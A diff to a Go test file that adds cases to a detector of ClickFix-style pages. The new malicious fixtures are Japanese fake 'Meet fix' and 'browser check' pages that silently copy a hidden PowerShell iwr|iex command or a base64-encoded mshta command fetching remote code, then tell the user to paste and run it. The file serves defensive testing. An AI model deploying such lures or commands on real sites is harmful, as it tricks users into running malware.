@@ -56,8 +56,26 @@ var clickfixCases = []struct {
 		`<p>ロボットではありません</p><p>マルウェア対策のため確認します</p><p>Windowsキー + R、Ctrl + V、Enter の順に押してください</p>
 <script>navigator.clipboard.writeText("powershell -w h -c iwr http://198.51.100.7/a|iex")</script>`,
 		true, []string{"powershell -w h", "Windowsキー + R"}},
+	// p44: no robot words; a command that runs code, on the clipboard and
+	// not on the page, and the Run box's keys to paste it.
+	{"a fake Google Meet fix", "https://meet-google.example.icu/", "Google Meet",
+		`<h2>マイクへのアクセス中に問題が発生しました</h2><p>この問題を修正するには、次の手順に従ってください。</p>
+<button onclick="fx()">修正する</button><ol><li>Windowsキー + R を押します</li><li>Ctrl + V を押して貼り付けます</li><li>Enterキーを押します</li></ol>
+<script>function fx(){navigator.clipboard.writeText("powershell -w hidden -c \"iwr https://meet-fix.example.icu/fix.ps1 | iex\"");}</script>`,
+		true, []string{"https://meet-fix.example.icu/fix.ps1", "Windowsキー + R"}},
+	{"a 'browser check': Win+X, the terminal, a base64 command in an off-screen field", "https://check.example.top/", "セキュリティチェック",
+		`<h2>ブラウザの安全性を検証しています</h2><p>続行するには、以下の手順で検証を完了してください。</p><button onclick="c()">検証する</button>
+<p>1. キーボードで Win + X を押し、「ターミナル」を選びます</p><p>2. 開いた黒い画面の中で右クリックして貼り付けます</p><p>3. Enter を押すと検証が終わります</p>
+<textarea id="t" style="position:absolute;left:-9999px"></textarea>
+<script>function c(){var t=document.getElementById('t');t.value=atob("bXNodGEgaHR0cHM6Ly9jaGVjay1icm93c2VyLWd1YXJkLmljdS92ZXJpZnkuaHRh");t.select();document.execCommand('copy');}</script>`,
+		true, []string{"mshta https://check-browser-guard.icu/verify.hta"}},
 
 	// ---- honest pages
+	{"an install guide showing the command it copies, with Win+R", "https://tools.example.org/ja/install", "インストール方法",
+		`<p>Win + R を押して powershell と入力し、次のコマンドを貼り付けて Enter を押します。</p>
+<pre>powershell -c "irm https://tools.example.org/install.ps1 | iex"</pre>
+<button onclick="navigator.clipboard.writeText('powershell -c &quot;irm https://tools.example.org/install.ps1 | iex&quot;')">コピー</button>`,
+		false, nil},
 	{"IT help page on the Run dialog", "https://support.example.jp/faq/run", "「ファイル名を指定して実行」の開き方",
 		`<p>Windowsキー + R を押して「ファイル名を指定して実行」を開き、cmd と入力して Enter を押します。</p><p>コマンドプロンプトが開きます。</p>`,
 		false, nil},
